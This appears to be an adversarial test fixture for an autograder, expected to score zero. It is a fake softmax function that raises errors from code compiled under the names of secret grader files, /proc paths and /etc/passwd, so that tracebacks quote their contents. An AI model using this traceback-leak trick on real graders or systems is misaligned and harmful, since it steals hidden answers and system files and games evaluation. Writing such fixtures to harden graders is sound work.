"""Tries: raise from code that claims to stand in a secret file, so that the traceback quotes that file."""

# deserves: 0

import glob
import os


def softmax(Z):
    places = [
        *glob.glob("/proc/*/cwd/private/*/*"),
        "private/ps1/checks.py",
        "../private/ps1/secret",
        "gradebook.db",
    ]
    places += ["course_lib/checks/lesson02.py", os.path.abspath("secret"), "/etc/passwd"]
    code = "\n" * (len(places) % 3) + "raise ValueError('see the line quoted')"
    for place in places[:-1]:
        try:
            exec(compile(code, place, "exec"))
        except ValueError as error:
            kept = error
    exec(compile(code, places[-1], "exec"))
    raise kept
